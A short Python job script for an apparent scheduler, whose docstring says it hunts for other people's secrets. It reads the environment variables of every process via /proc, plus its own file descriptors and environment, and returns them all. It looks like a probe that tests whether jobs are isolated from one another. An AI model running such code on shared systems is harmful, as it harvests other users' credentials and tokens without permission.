# /// script
# [tool.slotsched]
# max_time = "20s"
# env = { MINE = "given by the job file" }
# ///
"""Looks for other people's secrets wherever a script can look, and returns what it found."""

import os
from pathlib import Path


def main() -> dict:
    environments = {}
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            environments[path.parent.name] = path.read_bytes().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
    links = []
    for path in Path("/proc/self/fd").iterdir():
        try:
            links.append(str(path.readlink()))
        except OSError:
            continue
    return {"environ": dict(os.environ), "others": environments, "descriptors": links, "pid": os.getpid()}
